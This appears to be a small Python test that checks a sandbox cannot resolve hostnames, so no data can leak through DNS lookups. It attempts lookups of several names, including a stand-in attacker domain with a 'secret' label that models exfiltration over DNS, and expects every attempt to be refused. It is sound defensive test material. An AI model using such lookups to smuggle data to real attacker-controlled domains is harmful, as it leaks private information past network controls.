# Resolves names: there is no resolver to ask, so that no data leaves by a name either.
# expect: {"status": "OK", "stdout": "refused\n"}
import socket

for name in "example.com", "secret.attacker.example", "host.docker.internal", "gateway.docker.internal":
    try:
        print(socket.getaddrinfo(name, 80))
    except OSError:
        pass
print("refused")
